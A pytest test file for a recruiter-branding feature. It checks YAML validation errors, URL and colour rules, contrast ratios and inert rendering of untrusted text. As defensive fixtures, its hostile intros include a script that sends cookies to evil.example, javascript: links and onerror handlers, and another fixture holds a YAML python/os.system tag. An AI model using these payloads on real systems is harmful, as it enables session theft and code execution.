"""Recruiter and coach branding: located validation errors, safe rendering, the shipped file and docs."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from access.branding import (
    MAX_INTRO,
    People,
    Recruiter,
    contrast_ratio,
    invitation,
    load_people,
    outreach_message,
    parse_people,
)
from scoring.loader import QuestionnaireError

ROOT = Path(__file__).resolve().parents[1]
PEOPLE = ROOT / "config" / "people.yaml"
README = ROOT / "config" / "README.md"

GOOD = """\
recruiters:
  dana:
    display_name: Dana Whitfield
    firm: Whitfield Search Partners
    specialty: marketing and communications executive search
    intro: I'd rather be a partner than a transaction.
    accent_color: "#1f4e79"
    logo_url: https://whitfield-search.example/logo.png
    contact_url: mailto:dana@whitfield-search.example
coaches:
  sam:
    display_name: Sam Okafor
    firm: Clearpath
"""


def test_shipped_people_file_is_valid_and_realistic() -> None:
    people = load_people(PEOPLE)
    assert len(people.recruiters) >= 2 and len(people.coaches) >= 1
    for recruiter in people.recruiters.values():
        assert recruiter.safe_intro()
        assert "partner" in recruiter.intro or "conversation" in recruiter.intro
    specialties = " ".join(r.specialty for r in people.recruiters.values())
    assert "marketing and communications" in specialties


def test_readme_example_parses() -> None:
    blocks = re.findall(r"```yaml\n(.*?)```", README.read_text(encoding="utf-8"), flags=re.S)
    assert blocks, "config/README.md should show a YAML example"
    for block in blocks:
        assert isinstance(parse_people(block, "README.md"), People)


def test_good_document() -> None:
    people = parse_people(GOOD, "people.yaml")
    assert people.recruiter("dana") is not None and people.recruiter("nobody") is None
    assert people.recruiter(None) is None
    assert people.coaches["sam"].firm == "Clearpath"


def _replace(field: str, value: str) -> str:
    return re.sub(rf"(?m)^    {field}: .*$", f"    {field}: {value}", GOOD)


BROKEN = [
    ("unknown key", GOOD.replace("    firm: Whitfield", "    frim: x\n    firm: Whitfield"), 4, "recruiters.dana.frim"),
    ("missing intro", re.sub(r"(?m)^    intro: .*\n", "", GOOD), 2, "recruiters.dana"),
    ("bad id", GOOD.replace("  dana:", "  Dana Smith:"), 2, "recruiters"),
    ("duplicate recruiter", GOOD.replace("coaches:", "  dana:\n    display_name: x\ncoaches:"), 10, "recruiters.dana"),
    ("colour unquoted becomes null", _replace("accent_color", "#1f4e79"), 7, "recruiters.dana.accent_color"),
    ("colour name", _replace("accent_color", "red"), 7, "recruiters.dana.accent_color"),
    ("low-contrast colour", _replace("accent_color", '"#ffff00"'), 7, "recruiters.dana.accent_color"),
    ("http logo", _replace("logo_url", "http://whitfield-search.example/logo.png"), 8, "recruiters.dana.logo_url"),
    ("javascript logo", _replace("logo_url", "javascript:alert(1)"), 8, "recruiters.dana.logo_url"),
    ("data logo", _replace("logo_url", "data:image/png;base64,AAAA"), 8, "recruiters.dana.logo_url"),
    ("logo with credentials", _replace("logo_url", "https://u:p@x.example/l.png"), 8, "recruiters.dana.logo_url"),
    ("logo with quote", _replace("logo_url", "'https://x.example/\"onload=1'"), 8, "recruiters.dana.logo_url"),
    ("javascript contact", _replace("contact_url", "javascript:alert(1)"), 9, "recruiters.dana.contact_url"),
    ("mailto with headers", _replace("contact_url", "mailto:a@b.example?bcc=c@d.example"), 9, "contact_url"),
    ("intro too long", _replace("intro", "x" * (MAX_INTRO + 1)), 6, "recruiters.dana.intro"),
    ("name too long", _replace("display_name", "n" * 81), 3, "recruiters.dana.display_name"),
    ("name as number", _replace("display_name", "42"), 3, "recruiters.dana.display_name"),
    ("coach unknown key", GOOD + "    intro: hi\n", 14, "coaches.sam.intro"),
    ("python tag", GOOD.replace("firm: Clearpath", "firm: !!python/object:os.system x"), 13, "coaches.sam.firm"),
    ("top-level list", "- a\n- b\n", 1, "(root)"),
]


@pytest.mark.parametrize(("name", "text", "line", "path"), BROKEN, ids=[b[0] for b in BROKEN])
def test_broken_documents_give_located_errors(name: str, text: str, line: int, path: str) -> None:
    with pytest.raises(QuestionnaireError) as info:
        parse_people(text, "config/people.yaml")
    errors = info.value.errors
    assert any(e.line == line and path in e.path for e in errors), str(info.value)
    assert all(str(e).startswith(f"config/people.yaml:{e.line}: ") for e in errors)


def test_missing_file_is_a_located_error(tmp_path: Path) -> None:
    with pytest.raises(QuestionnaireError, match="cannot read file"):
        load_people(tmp_path / "nope.yaml")


def test_people_file_is_read_bounded(tmp_path: Path) -> None:
    big = tmp_path / "people.yaml"
    big.write_bytes(b"recruiters: {}\n" + b"# padding\n" * 200_000)  # 2 MB of comments
    with pytest.raises(QuestionnaireError, match=r"people.yaml:1: \(root\): file is 2,000,015 bytes; the limit is"):
        load_people(big)


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_people_device_is_never_read(device: str) -> None:
    # /dev/zero reports size 0: a stat check alone would then read forever.
    if not Path(device).exists():
        pytest.skip(f"no {device}")
    with pytest.raises(QuestionnaireError, match="a character device, not a regular file"):
        load_people(device)


def test_a_people_fifo_is_refused_at_once(tmp_path: Path) -> None:
    import os

    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this system")
    os.mkfifo(tmp_path / "people.yaml")
    with pytest.raises(QuestionnaireError, match="a named pipe"):
        load_people(tmp_path / "people.yaml")


def test_an_escaped_control_character_in_an_intro_is_refused() -> None:
    text = 'recruiters:\n  dana:\n    display_name: Dana\n    firm: "W\\u0000S"\n    specialty: x\n    intro: hi\n'
    with pytest.raises(QuestionnaireError, match=r"people.yaml:4: recruiters.dana.firm: control character U\+0000"):
        parse_people(text, "people.yaml")


HOSTILE_INTROS = [
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    '<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>',
    "Hello ![tracker](https://evil.example/pixel.gif) there",
    "[Apply here](https://evil.example/phish) or [here](javascript:alert(1))",
    "Visit https://evil.example/login or www.evil.example today",
    ":red[URGENT] $\\href{javascript:alert(1)}{x}$ <a href=x>y</a>",
    "# BIG\n\n> quote\n\n```html\n<script>x</script>\n```",
    ("A" * 300 + " ") * 2,
]


@pytest.mark.parametrize("intro", HOSTILE_INTROS)
def test_hostile_intro_renders_inert(intro: str) -> None:
    recruiter = Recruiter(display_name="<b>Eve</b> ![x](https://e.example/x.png)", firm="[Evil](https://e.example)",
                          specialty="x", intro=intro[:MAX_INTRO])  # fmt: skip
    shown = invitation(recruiter, role="<script>alert(1)</script> [x](https://e.example)")
    for text in (shown.headline, shown.intro):
        assert "<" not in text and "![" not in text and "](" not in text
        assert not re.search(r"(?<!\\)\$", text) and ":red\\[" not in text.replace("\\:red\\[", "")
        assert "\n#" not in "\n" + text and "\n>" not in "\n" + text and "```" not in text
    assert len(shown.intro) <= 4 * MAX_INTRO


def test_invitation_names_recruiter_and_role() -> None:
    recruiter = parse_people(GOOD).recruiters["dana"]
    shown = invitation(recruiter, role="VP Communications")
    assert (
        shown.headline
        == "**Dana Whitfield, Whitfield Search Partners** invited you with the VP Communications role in mind."
    )
    assert shown.contact_url == "mailto:dana@whitfield-search.example" and shown.accent_color == "#1f4e79"


@pytest.mark.parametrize("role", [None, "VP Communications"])
def test_outreach_message_explains_the_quiz_in_the_recruiters_voice(role: str | None) -> None:
    recruiter = parse_people(GOOD).recruiters["dana"]
    url = "https://radar.example.com/?q=strategic-candidate&c=abc.def"
    message = outreach_message(recruiter, url=url, minutes=8, role=role)
    assert url in message.splitlines()
    assert "about 8 minutes" in message and "isn't a screening test" in message
    assert "only see your result if you choose to share" in message
    assert message.startswith("Hi [first name],") and message.rstrip().endswith("Whitfield Search Partners")
    assert (role in message) if role else "I'm working on a" not in message


@pytest.mark.parametrize(
    ("a", "b", "ratio"),
    [
        ("#000000", "#ffffff", 21.0),
        ("#ffffff", "#ffffff", 1.0),
        ("#767676", "#ffffff", 4.54),
        ("#0b6e69", "#ffffff", 6.09),
    ],
)
def test_contrast_ratio_matches_wcag(a: str, b: str, ratio: float) -> None:
    assert contrast_ratio(a, b) == pytest.approx(ratio, abs=0.05)


@pytest.mark.parametrize(
    ("role", "phrase"), [("Account Director", "on an Account Director search"), ("VP", "on a VP search")]
)
def test_outreach_message_article(role: str, phrase: str) -> None:
    message = outreach_message(parse_people(GOOD).recruiters["dana"], url="https://x.example/", minutes=7, role=role)
    assert phrase in message
